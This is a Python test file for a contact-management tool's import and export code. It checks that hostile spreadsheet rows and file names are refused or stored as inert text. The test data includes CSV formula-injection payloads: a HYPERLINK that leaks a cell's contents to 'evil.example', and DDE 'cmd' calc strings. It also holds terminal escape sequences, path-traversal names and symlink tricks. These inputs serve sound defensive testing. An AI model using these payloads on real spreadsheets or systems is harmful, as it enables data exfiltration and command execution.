"""Hostile imports and exports: contact-form rows as an attacker fills them, file names that try to
leave the exchange folder, symlinks, existing files, a viewer, two imports at once.

Each case asserts the outcome (refused with a clear message, or stored and exported as text) and
that nothing is lost: the database byte-identical, or only the intended change made.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from ssa_tui.schema import KINDS
from openpyxl import Workbook, load_workbook

from ssa_tui.demo import build
from ssa_tui.exchange.importer import import_file
from ssa_tui.exchange.table import FileRefused
from ssa_tui.services.exchange import (
    export_to_exchange,
    import_from_exchange,
    import_path,
    importable_files,
)
from ssa_tui.store import ReadOnlyError, Repository
from ssa_tui.store.files import OutputExists, UnsafeFileName


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("SSA_TUI_EXCHANGE_DIR", raising=False)
    monkeypatch.delenv("SSA_TUI_CONFIG", raising=False)
    path = tmp_path / "office" / "db.json"
    path.parent.mkdir()
    build(path)
    return path


@pytest.fixture
def exchange(db: Path) -> Path:
    folder = db.parent / "exchange"
    folder.mkdir()
    return folder


def ssa(db: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SSA_TUI_")}
    command = [sys.executable, "-m", "ssa_tui", "--db", str(db), *args]
    return subprocess.run(
        command, capture_output=True, text=True, stdin=subprocess.DEVNULL, env=env, timeout=120
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_names_from_the_contact_form_are_stored_as_text_and_exported_inert(
    db: Path, exchange: Path, formula: str
) -> None:
    (exchange / "form.csv").write_text(
        f'Name;Funktion\n"{formula.replace(chr(34), chr(34) * 2)}";x\n', "utf-8"
    )
    repository = Repository(db, user="anna")
    report = import_from_exchange(repository, "contacts", "form.csv")
    assert (report.created, report.refused) == (1, 0)
    stored = repository.records("contacts")[-1]
    assert stored["name"] == formula
    export_to_exchange(repository, "contacts", "csv", "out.csv")
    rows = list(
        csv.reader(io.StringIO((exchange / "out.csv").read_text("utf-8-sig"), newline=""), delimiter=";")
    )
    assert rows[-1][1] == "'" + formula
    export_to_exchange(repository, "contacts", "xlsx", "out.xlsx")
    cell = load_workbook(exchange / "out.xlsx").worksheets[0].cell(row=len(rows), column=2)
    assert (cell.data_type, cell.value) == ("s", formula)
    before = db.read_bytes()
    assert import_from_exchange(repository, "contacts", "out.csv").refused == 0
    assert import_from_exchange(repository, "contacts", "out.xlsx").refused == 0
    assert db.read_bytes() == before


def test_line_breaks_and_terminal_escapes_in_one_line_fields_are_refused_others_kept(
    db: Path, exchange: Path
) -> None:
    (exchange / "form.csv").write_bytes(
        b'Name;E-Mail\r\n"Anna\r\nInjected: yes";a@example.org\r\n'
        b'"\x1b]52;c;cHduZWQ=\x07Bob";b@example.org\r\n'
        b"Carla;c@example.org\r\n"
    )
    result = ssa(db, "--user", "anna", "import", "contacts", str(exchange / "form.csv"))
    assert result.returncode == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    lines = result.stderr.splitlines()
    assert lines[0].startswith("Zeile 2, Feld Name: ") and lines[1].startswith("Zeile 3, Feld Name: ")
    assert "1 neu, 0 geändert, 0 unverändert, 2 abgelehnt." in result.stdout
    assert [c["name"] for c in Repository(db, user="x").records("contacts")][-1] == "Carla"


def test_escapes_in_notes_are_refused_and_the_message_shows_them_visibly(db: Path, exchange: Path) -> None:
    (exchange / "form.csv").write_bytes("Name;Notizen\nDora;\x1b[2J\x1b[31mrot\n".encode())
    before = db.read_bytes()
    result = ssa(db, "import", "contacts", str(exchange / "form.csv"))
    assert result.returncode == 1 and "\x1b" not in result.stderr
    assert result.stderr.startswith("Zeile 2, Feld Notizen: ")
    assert db.read_bytes() == before


def test_a_huge_cell_is_one_line_and_a_giant_file_cell_stops_cleanly(db: Path, exchange: Path) -> None:
    (exchange / "big.csv").write_text(f"Name;Funktion\nEva;{'A' * 300_000}\n", "utf-8")
    (exchange / "giant.csv").write_text(f"Name;Funktion\nEva;{'A' * 3_000_000}\n", "utf-8")
    before = db.read_bytes()
    big = ssa(db, "import", "contacts", str(exchange / "big.csv"))
    assert (big.returncode, big.stderr.strip()) == (
        1,
        f"Zeile 2, Feld Funktion: Zu lang: höchstens {KINDS['contacts'].field('role').max_length} Zeichen.",
    )
    giant = ssa(db, "import", "contacts", str(exchange / "giant.csv"))
    assert giant.returncode == 1 and len(giant.stderr.strip().splitlines()) == 1
    assert "Traceback" not in giant.stderr
    assert db.read_bytes() == before


@pytest.mark.parametrize(
    "name", ["../db.json", "/etc/x", "..", ".bashrc", "-rf", "a/../../db.json", "x\x1b.csv"]
)
def test_export_names_that_try_to_leave_the_folder_are_refused(db: Path, exchange: Path, name: str) -> None:
    before = db.read_bytes()
    with pytest.raises(UnsafeFileName):
        export_to_exchange(Repository(db, user="anna"), "contacts", "csv", name)
    assert db.read_bytes() == before
    assert list(exchange.iterdir()) == []
    assert not Path("/etc/x").exists()


def test_a_symlink_in_the_exchange_folder_is_neither_written_nor_read(db: Path, exchange: Path) -> None:
    (exchange / "kontakte.csv").symlink_to(db)
    (exchange / "stolen.csv").symlink_to(db.parent / "secret.csv")
    (db.parent / "secret.csv").write_text("Name\nMallory\n", "utf-8")
    repository = Repository(db, user="anna")
    before = db.read_bytes()
    with pytest.raises(UnsafeFileName):
        export_to_exchange(repository, "contacts", "csv", "kontakte.csv", replace=True)
    with pytest.raises(UnsafeFileName):
        import_from_exchange(repository, "contacts", "stolen.csv")
    assert importable_files(repository) == []
    assert db.read_bytes() == before


def test_an_existing_file_is_replaced_only_when_asked(db: Path, exchange: Path) -> None:
    (exchange / "k.csv").write_bytes(b"meine Arbeit")
    repository = Repository(db, user="anna")
    with pytest.raises(OutputExists):
        export_to_exchange(repository, "contacts", "csv", "k.csv")
    assert (exchange / "k.csv").read_bytes() == b"meine Arbeit"
    export_to_exchange(repository, "contacts", "csv", "k.csv", replace=True)
    assert (exchange / "k.csv").read_bytes().startswith('\ufeff"ID"'.encode())


@pytest.mark.parametrize("suffix", ["", ".lock", ".audit.jsonl", ".backups/x.json"])
def test_cli_export_onto_the_database_or_its_side_files_is_refused(db: Path, suffix: str) -> None:
    before = db.read_bytes()
    result = ssa(db, "export", "contacts", "--format", "csv", "--force", "-o", f"{db}{suffix}")
    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1
    assert "Traceback" not in result.stderr
    assert db.read_bytes() == before


def test_cli_export_into_an_ssh_folder_is_refused(db: Path) -> None:
    ssh = db.parent / ".ssh"
    ssh.mkdir()
    result = ssa(db, "export", "contacts", "--format", "csv", "-o", str(ssh / "authorized_keys"))
    assert result.returncode == 2
    assert result.stderr.strip().endswith(
        "gehört zur Datenbank oder zur Verwaltung und wird nicht überschrieben."
    )
    assert list(ssh.iterdir()) == []


def test_cli_export_needs_force_for_an_existing_file(db: Path, tmp_path: Path) -> None:
    target = tmp_path / "k.csv"
    target.write_bytes(b"alt")
    refused = ssa(db, "export", "contacts", "--format", "csv", "-o", str(target))
    assert refused.returncode == 2 and target.read_bytes() == b"alt"
    assert (
        refused.stderr.strip()
        == f"Die Datei {target} gibt es schon – nur mit Bestätigung (--force) ersetzen."
    )
    forced = ssa(db, "export", "contacts", "--format", "csv", "-o", str(target), "--force")
    assert forced.returncode == 0 and target.read_bytes().startswith("\ufeff".encode())
    assert oct(target.stat().st_mode & 0o777) == "0o660"


def test_cli_export_into_a_missing_folder_or_onto_a_folder_is_one_line_exit_2(
    db: Path, tmp_path: Path
) -> None:
    missing = ssa(db, "export", "contacts", "-o", str(tmp_path / "fehlt" / "k.json"))
    assert missing.returncode == 2
    assert missing.stderr.strip() == f"Den Ordner {tmp_path / 'fehlt'} gibt es nicht – nichts geschrieben."
    folder = ssa(db, "export", "contacts", "-o", str(tmp_path))
    assert folder.returncode == 2
    assert folder.stderr.strip() == f"{tmp_path} ist ein Ordner – bitte einen Dateinamen angeben."


def test_a_viewer_may_export_but_not_import(db: Path, exchange: Path) -> None:
    (exchange / "k.csv").write_text("Name\nNeu\n", "utf-8")
    viewer = Repository(db, user="gast", read_only=True)
    before = db.read_bytes()
    target, result = export_to_exchange(viewer, "contacts", "vcf", "kontakte.vcf")
    assert result.count == viewer.count("contacts") and target.read_bytes().startswith(b"BEGIN:VCARD")
    with pytest.raises(ReadOnlyError):
        import_from_exchange(viewer, "contacts", "k.csv")
    with pytest.raises(ReadOnlyError):
        import_path(viewer, "contacts", exchange / "k.csv", dry_run=True)
    assert db.read_bytes() == before


def test_two_imports_of_the_same_form_at_once_create_each_person_once(db: Path, exchange: Path) -> None:
    rows = "".join(f"Person {n};p{n}@example.org\n" for n in range(300))
    (exchange / "a.csv").write_text("Name;E-Mail\n" + rows, "utf-8")
    (exchange / "b.csv").write_text("Name;E-Mail\n" + rows, "utf-8")
    command = [sys.executable, "-m", "ssa_tui", "--db", str(db), "import", "contacts"]
    processes = [
        subprocess.Popen([*command, str(exchange / name)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        for name in ("a.csv", "b.csv")
    ]
    assert [p.wait(timeout=120) for p in processes] == [0, 0]
    emails = [c["email"] for c in Repository(db, user="x").records("contacts") if c["email"]]
    assert sorted(e for e in emails if e.startswith("p")) == sorted(f"p{n}@example.org" for n in range(300))
    assert ssa(db, "check").returncode == 0


def test_a_link_cell_with_a_formula_or_an_unknown_name_is_refused(db: Path, exchange: Path) -> None:
    (exchange / "p.csv").write_text(
        "Schule;Ort;Fachkraft\nX-Schule;Soest;=1+1\nY-Schule;Soest;#999\n", "utf-8"
    )
    report = import_from_exchange(Repository(db, user="anna"), "positions", "p.csv")
    assert report.lines() == [
        "Zeile 2, Feld Fachkraft: „=1+1“ nicht gefunden (Kontakt).",
        "Zeile 3, Feld Fachkraft: „#999“ nicht gefunden (Kontakt).",
    ]


def test_a_workbook_with_live_formulas_never_stores_one(db: Path, exchange: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["Name", "Funktion"])
    sheet.append(["Formelfrau", '=HYPERLINK("http://evil.example")'])
    book.save(exchange / "f.xlsx")
    repository = Repository(db, user="anna")
    report = import_from_exchange(repository, "contacts", "f.xlsx")
    assert (report.created, report.refused) == (1, 0)
    assert repository.records("contacts")[-1]["role"] is None  # no cached value: nothing taken


def test_a_broken_workbook_or_a_hostile_header_is_a_clear_message(db: Path, exchange: Path) -> None:
    (exchange / "kaputt.xlsx").write_bytes(b"PK\x03\x04 not really a zip")
    before = db.read_bytes()
    with pytest.raises(FileRefused) as refused:
        import_file(Repository(db, user="anna"), "contacts", exchange / "kaputt.xlsx")
    assert (
        str(refused.value) == "kaputt.xlsx ist keine lesbare Excel-Arbeitsmappe (.xlsx) – nichts übernommen."
    )
    (exchange / "h.csv").write_bytes(b"Name;\x1b[31m=cmd\x07\nAnna;1\n")
    report = import_file(Repository(db, user="anna"), "contacts", exchange / "h.csv")
    assert report.lines() == ["Unbekannte Spalte „␛[31m=cmd␇“ – nicht übernommen."]
    assert db.read_bytes() != before and report.created == 1
